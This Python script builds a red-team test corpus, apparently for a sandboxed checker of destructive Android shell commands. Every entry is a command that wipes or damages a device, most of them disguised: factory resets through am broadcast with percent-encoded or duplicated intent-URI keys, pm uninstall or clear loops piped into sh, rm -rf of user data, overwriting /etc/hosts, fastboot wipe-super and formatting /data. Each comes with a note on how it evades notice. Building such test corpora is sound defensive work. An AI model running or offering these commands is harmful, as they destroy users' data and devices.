#!/usr/bin/env python3
"""Round 6, attacker C (Android routes): the corpus as Python data.

Writes corpus.jsonl (every line proven by prove.py in the tests/sandbox jail) and
unprovable.jsonl (harmful on a device, not judgeable by the sandbox). The command text is only
ever data here; it runs nowhere but inside the sandbox.
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent

L = []


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    L.append(row)


# --- comp-arg: am's positional component (no -n) -------------------------------------------
add("comp-arg", r"am broadcast --user 0 android/com.android.server.MasterClearReceiver",
    "Factory reset. A bare argument with a '/' and no ':' is a component to am (Intent.parseCommandArgs: "
    "ComponentName.unflattenFromString), so this is an explicit broadcast to MasterClearReceiver with no -a/-n; "
    "the receiver wipes for any action except the remote-wipe one.")
add("comp-arg", r"cmd activity broadcast -a android.intent.action.CLOSE_SYSTEM_DIALOGS --ez shutdown false android/com.android.server.MasterClearReceiver",
    "Factory reset. Decoy -a: with a positional component am builds a MAIN intent and only fills in what it "
    "left unset, so the CLOSE_SYSTEM_DIALOGS action is dropped; the explicit broadcast goes to MasterClearReceiver.")
add("comp-arg", r"am start-activity -W com.android.settings/.Settings\$FactoryResetActivity",
    "Opens Settings' factory-reset activity: the 'start-activity' spelling of am start and the component as a "
    "positional argument (no -n).")
add("comp-arg", r"cmd activity start-activity --activity-clear-top -a android.intent.action.VIEW com.android.settings/com.android.settings.Settings'$FactoryResetActivity'",
    "Factory-reset activity through cmd activity: decoy VIEW action (ignored: the positional component's MAIN "
    "intent wins), full class name with the '$' half in single quotes.")

# --- uri-dup: the last key of an intent URI wins --------------------------------------------
add("uri-dup", r"am broadcast 'intent:#Intent;action=android.intent.action.SCREEN_ON;package=android;action=android.intent.action.%46ACTORY_RESET;end'",
    "Factory reset. Intent.parseUri sets the action once per action= key, so the second (percent-encoded "
    "%46ACTORY_RESET = FACTORY_RESET) replaces the harmless first one a reader sees.")
add("uri-dup", r"cmd activity broadcast 'android-app://android#Intent;action=android.intent.action.BATTERY_OKAY;S.note=checked;action=android.intent.action.MASTER%5FCLEAR;end'",
    "Factory reset. android-app: URI with two action= keys; the later MASTER%5FCLEAR (= MASTER_CLEAR) wins.")
add("uri-dup", r"am start 'intent:#Intent;component=com.android.settings/.Settings;launchFlags=0x10000000;component=com.android.settings/.Settings%24%46actoryResetActivity;end'",
    "Factory-reset activity. Two component= keys: the first is plain Settings, the last (which parseUri keeps) "
    "is Settings$FactoryResetActivity with '$' and 'F' percent-encoded.")
add("uri-dup", r"am broadcast 'intent:#Intent;component=android/com.android.server.BootReceiver;component=android/com.android.server.M%61sterClearReceiver;end'",
    "Factory reset. Decoy first component= (BootReceiver); the second one, M%61sterClearReceiver = "
    "MasterClearReceiver, replaces it; an explicit broadcast with no action wipes.")

# --- am-dashdash: '--' ends am's options, the URI follows ------------------------------------
add("am-dashdash", r"am broadcast --user 0 -- 'intent:#Intent;action=android.intent.action.FACTORY%5fRESET;package=android;end'",
    "Factory reset. ShellCommand.getNextOption treats '--' as the end of options; the next word is still the "
    "intent (a URI, lower-case hex %5f for '_'). A reader that stops at '--' sees no intent.")
add("am-dashdash", r"cmd activity start-activity -W -- com.android.settings/.Settings\$FactoryResetActivity",
    "Factory-reset activity: the positional component after '--'.")

# --- uri-data: the intent URI looks like a data URI -------------------------------------------
add("uri-data", r"am broadcast 'intent://cleanup/cache#Intent;scheme=file;action=android.intent.action.VIEW;component=android/com.android.server.%4dasterClearReceiver;end'",
    "Factory reset. An intent://host/path URI (data file://cleanup/cache) whose fragment names the component "
    "%4dasterClearReceiver = MasterClearReceiver; explicit, so the data and the decoy VIEW action do not matter.")
add("uri-data", r"am start 'android-app://com.android.settings/https/support.example.com/help#Intent;component=com.android.settings/.Settings%24Factory%52esetActivity;end'",
    "Factory-reset activity. An android-app://package/scheme/host/path URI that reads as a help link; its "
    "fragment's component= is Settings$FactoryResetActivity (%24 = '$', %52 = 'R').")

# --- gen-sh: pm commands generated from a package list and piped into a shell ---------------
add("gen-sh", r"pm list packages -3 | sed 's/^package:/pm uninstall -k --user 0 /' | sh",
    "Mass uninstall (every user app): sed rewrites each 'package:NAME' line into a pm command and sh runs them; "
    "the pm uninstall in the text has no operand.")
add("gen-sh", r"""cmd package list packages -s | awk -F: '{print "cmd package clear " $2}' | sh -s""",
    "Clears every system app's data: awk prints one 'cmd package clear NAME' per line, sh -s reads them from stdin.")
add("gen-sh", r"printf 'pm clear %s\n' $(ls /data/user_de/0) | $SHELL",
    "Clears every app: printf reuses its format once per name listed in /data/user_de/0 and $SHELL "
    "(/system/bin/sh) runs the generated lines.")
add("gen-sh", r"pm list packages -d | sed -n 's/^package:\(.*\)/cmd package uninstall -k --user 0 \1/p' | su 0 sh",
    "Uninstalls every disabled package (pm list packages -d, a filter no corpus used), the commands generated by "
    "sed's back-reference and run by a root shell (su 0 sh reads stdin).")

# --- uid-user: Android's user id computed from the uid ---------------------------------------
add("uid-user", r"rm -rf /storage/emulated/$(( $(id -u) / 100000 ))/DCIM",
    "Deletes DCIM. Android's user id is uid / 100000 (UserHandle.PER_USER_RANGE); for the shell (2000) that is "
    "0, so the path is /storage/emulated/0/DCIM.")
add("uid-user", r"rm -rf /data/user/$(($(id -u)/100000))/*/databases",
    "Deletes every app's databases: /data/user/0/*/databases, the user id computed from the uid.")
add("uid-user", r"u=$(( $(id -u) / 100000 )); truncate -s 0 /data/system/users/$u.xml",
    "Truncates /data/system/users/0.xml (the owner user's record, system state): the file name is the user id "
    "computed from the uid.")
add("uid-user", r"rm -rf /data/media/$((USER_ID / 100000))/Movies",
    "Deletes Movies in the storage's backing directory. mksh sets USER_ID to the effective uid (2000, so 0); in "
    "busybox sh the unset name is 0 in arithmetic, so both shells get /data/media/0/Movies.")

# --- etc-hosts: /etc is /system/etc on Android -----------------------------------------------
add("etc-hosts", r"printf '127.0.0.1 localhost\n0.0.0.0 ads.doubleclick.net\n' > /etc/hosts",
    "Overwrites /system/etc/hosts (OS image): on Android /etc is a symlink to /system/etc; reads like an "
    "ordinary ad-block hosts file.")
add("etc-hosts", r"printf '0.0.0.0 ads.example.com\n' > /data/local/tmp/hosts && ln -sf /data/local/tmp/hosts /etc/hosts",
    "Replaces /system/etc/hosts with a symlink (ln -sf unlinks the OS file); /etc is /system/etc.")
add("etc-hosts", r"sed -i '$a 0.0.0.0 ads.example.com' /etc/hosts",
    "Rewrites /system/etc/hosts in place (sed -i writes a new file over it) through the /etc symlink.")

# --- which: the Android program's path from which -------------------------------------------
add("which", r'"$(which cmd)" testharness enable',
    "Test-harness mode (wipes the device): the program is the output of toybox which.")
add("which", r"`which pm` remove-user 10",
    "Removes user 10 (a work profile or second user, with its data): pm located by which in backquotes.")

# --- fastboot: subcommands no corpus used ----------------------------------------------------
add("fastboot", r"fastboot wipe-super /data/local/tmp/super_empty.img",
    "fastboot wipe-super writes an empty super partition: system, vendor and product are gone.")
add("fastboot", r"fastboot flashing unlock_critical",
    "Unlocking the critical partitions makes the bootloader wipe userdata (like flashing unlock).")

# --- cwd-glob: the package set is the working directory's entries ----------------------------
add("cwd-glob", r'cd /data/user_de/0 && for p in *; do pm clear "$p"; done',
    "Clears every app: the loop's * is relative to /data/user_de/0, whose entries are package names.")
add("cwd-glob", r'cd /sdcard/Android/data && for p in */; do pm clear "${p%/}"; done',
    "Clears every app that has external files: the directory names under Android/data, from the cwd.")
add("cwd-glob", r'cd $ANDROID_DATA/data && for p in *.*; do cmd package uninstall -k --user 0 $p; done',
    "Uninstalls every app: *.* in /data/data ($ANDROID_DATA/data).")
add("cwd-glob", r"run-as com.example.app --user 0 sh -c 'for p in ../*; do pm clear ${p##*/}; done'",
    "Clears every app: run-as starts in the app's data directory (/data/user/0/PKG), so ../* is every app's "
    "directory in /data/data.")

# --- data-app: package names from /data/app directory names ----------------------------------
add("data-app", r'for d in /data/app/*/*; do d=${d##*/}; pm uninstall "${d%-*}"; done',
    "Uninstalls every updated/user app: /data/app/~~RANDOM==/PKG-N directories, the -N suffix stripped.")
add("data-app", r"ls -d /data/app/~~*/* | sed 's,.*/,,; s,-[0-9]*$,,' | xargs -n1 cmd package clear",
    "Clears every app installed in /data/app: the ~~* random-dir glob, names cut by sed.")

# --- app-process: app_process argument syntax ------------------------------------------------
add("app-process", r"CLASSPATH=/system/framework/pm.jar app_process /system/bin --nice-name=pm_update com.android.commands.pm.Pm remove-user 10",
    "Removes user 10 through Pm's main: app_process accepts --nice-name= before the class, so the class is not "
    "the word after the directory.")
add("app-process", r"CLASSPATH=/system/framework/am.jar app_process64 / --nice-name=com.android.settings com.android.commands.am.Am broadcast 'intent:#Intent;action=android.intent.action.%4DASTER%5FCLEAR;end'",
    "Factory reset through Am's main, the process disguised as com.android.settings by --nice-name, the action "
    "percent-encoded in an intent URI.")
add("app-process", r"CLASSPATH=/system/framework/pm.jar app_process -Xnoimage-dex2oat -Duser.language=en /system/bin com.android.commands.pm.Pm remove-user --wait 10",
    "Removes user 10: VM options (-X, -D) before app_process's directory argument push the class further right.")
add("app-process", r"CLASSPATH=/system/framework/am.jar app_process /system/bin com.android.commands.am.Am broadcast --user 0 android/com.android.server.MasterClearReceiver",
    "Factory reset: Am's main with MasterClearReceiver as a positional component (no -n, no action).")

# --- current-user: the user id from am get-current-user --------------------------------------
add("current-user", r"rm -rf /data/user_de/$(am get-current-user)/*",
    "Deletes every app's device-encrypted data: am get-current-user prints 0 on a phone "
    "(/data/user_de/0/*); in the sandbox it prints nothing and /data/user_de//* deletes the user's directory.")
add("current-user", r"rm -rf /storage/emulated/$(cmd activity get-current-user)/*",
    "Empties the user's shared storage: /storage/emulated/0/* on a phone (the stub prints nothing, so the "
    "sandbox deletes /storage/emulated/0 itself).")
add("current-user", r"truncate -s 0 /data/system/users/$(am get-current-user)*.xml",
    "Truncates the current user's record /data/system/users/0.xml (system state); the id from am, the name "
    "completed by a glob.")

# --- proc-prog: the program through /proc/PID/root ------------------------------------------
add("proc-prog", r"/proc/1/root/system/bin/cmd testharness enable",
    "Test-harness mode (wipes): cmd run by a path through init's root (/proc/1/root is /).")
add("proc-prog", r"/proc/self/root/system/bin/pm remove-user 10",
    "Removes user 10: pm by a path through /proc/self/root.")

# --- rel-prog: the program by a relative path ------------------------------------------------
add("rel-prog", r"cd /system/bin && ./cmd testharness enable",
    "Test-harness mode: ./cmd after cd into /system/bin, a 'local script' to the eye.")
add("rel-prog", r"cd /bin && ./pm remove-user 10",
    "Removes user 10: /bin is a symlink to /system/bin on Android, so ./pm is the package manager.")
add("rel-prog", r"cd $ANDROID_ROOT && bin/cmd user remove-user 10",
    "Removes user 10: bin/cmd relative to $ANDROID_ROOT (/system).")

# --- default-path: command -p ---------------------------------------------------------------
add("default-path", r"command -p cmd testharness enable",
    "Test-harness mode: command -p looks cmd up in the shell's default PATH (/bin is /system/bin), a wrapper "
    "that reads like 'check the command exists'.")

# --- home-root: HOME is / in adb shell --------------------------------------------------------
add("home-root", r"cd && rm -rf data/user_de/0/*",
    "Deletes every app's device-encrypted data: adbd gives the shell HOME=/, so a bare cd goes to / and the "
    "relative path is /data/user_de/0/*.")
add("home-root", r"cd; printf -- '--wipe_data\n' > cache/recovery/command",
    "Writes the recovery command file (factory reset at the next recovery boot): cd with no argument is / "
    "(HOME), cache/recovery/command is /cache/recovery/command.")

# --- user-src: user ids from per-user storage directories ------------------------------------
add("user-src", r"for u in /mnt/user/*; do pm remove-user ${u##*/}; done",
    "Removes every user: /mnt/user has one view per user (0, 10, ...). The sandbox has only user 0; on a "
    "phone 0 fails and the secondary users and profiles go with their data.")
add("user-src", r"ls /data/media | grep -x '[0-9]*' | xargs -n1 cmd user remove-user",
    "Removes every user: the numeric entries of /data/media are the users' storage (obb excluded by the grep).")

# --- fmt-mount: formatter over the device that holds /data ------------------------------------
add("fmt-mount", r"""make_f2fs -f $(mount | awk '$2 == "/data" {print $1}')""",
    "Formats the userdata device: Android's f2fs formatter given the block device mount lists for /data.")

# --- literal-notation: >3 literal packages written as Android notations ----------------------
add("literal-notation", r"for c in com.whatsapp/.Main com.spotify.music/.MainActivity com.example.app/.Launcher com.example.other/.Home; do pm clear ${c%/*}; done",
    "Clears 4 apps: the names are written as component names (PKG/.Class), the package part cut by ${c%/*}.")
add("literal-notation", r"for u in package:com.whatsapp package:com.spotify.music package:com.example.app package:com.example.other; do pm uninstall -k ${u#package:}; done",
    "Uninstalls 4 apps written as package: URIs (the form am and the DELETE intent use).")
add("literal-notation", r"for a in /data/app/com.whatsapp-1 /data/app/com.spotify.music-2 /data/app/com.example.app-1 /data/app/com.example.other-3; do a=${a##*/}; pm clear ${a%-*}; done",
    "Clears 4 apps written as old-style APK directories (/data/app/PKG-N).")

# --- prop-channel: a device store as the variable --------------------------------------------
add("prop-channel", r"setprop debug.reset.action MASTER_CLEAR; am broadcast -a android.intent.action.$(getprop debug.reset.action)",
    "Factory reset: the action's last word is stored in a debug.* property (the shell may set those) and read "
    "back by getprop. The sandbox's getprop does not store, so its verdict fires on the setprop argv (its wipe "
    "rule lists setprop); on a phone the broadcast is MASTER_CLEAR.")
add("prop-channel", r"settings put global spock_note FACTORY_RESET; am broadcast -p android -a android.intent.action.$(settings get global spock_note)",
    "Factory reset: the word goes through Settings.Global and comes back from settings get. As above, the "
    "sandbox's verdict fires on the settings argv; on a phone the broadcast is FACTORY_RESET to android.")

U = []


def unp(family, cmd, note, why):
    U.append({"family": family, "cmd": cmd, "note": note, "why": why})


unp("proc-names", r"ps -A -o NAME | grep '^[a-z]*\.[a-z.]*$' | xargs -n1 pm clear",
    "Clears every running app: on Android an app's process name is its package name.",
    "The sandbox's processes are sh/ps/grep, not apps.")
unp("user-list", r"pm list users | sed -n 's/.*UserInfo{\([1-9][0-9]*\):.*/\1/p' | xargs -r -n1 pm remove-user",
    "Removes every secondary user, ids parsed from pm list users (UserInfo{10:Work profile:...}).",
    "The pm stub prints no users.")
unp("tool-writer", r"uiautomator dump /data/system/packages.xml",
    "uiautomator writes the window hierarchy XML over packages.xml (system state: every app's record).",
    "The uiautomator stub only logs; it writes no file.")
unp("tool-writer", r"screencap -p /data/system/users/0.xml",
    "screencap writes a PNG over the owner user's record.",
    "The screencap stub only logs.")
unp("tool-writer", r"logcat -d -f /data/misc/wifi/WifiConfigStore.xml",
    "logcat -f writes the log over the Wi-Fi configuration store (system state).",
    "The logcat stub only logs.")
unp("art-env", r"rm -rf ${BOOTCLASSPATH%%:*}",
    "Deletes the first boot class path jar (/apex/com.android.art/javalib/core-oj.jar): adb shell exports BOOTCLASSPATH.",
    "The sandbox's environment has no BOOTCLASSPATH.")

(HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in L))
(HERE / "unprovable.jsonl").write_text("".join(json.dumps(r) + "\n" for r in U))
print(f"corpus.jsonl: {len(L)} lines; unprovable.jsonl: {len(U)} lines")
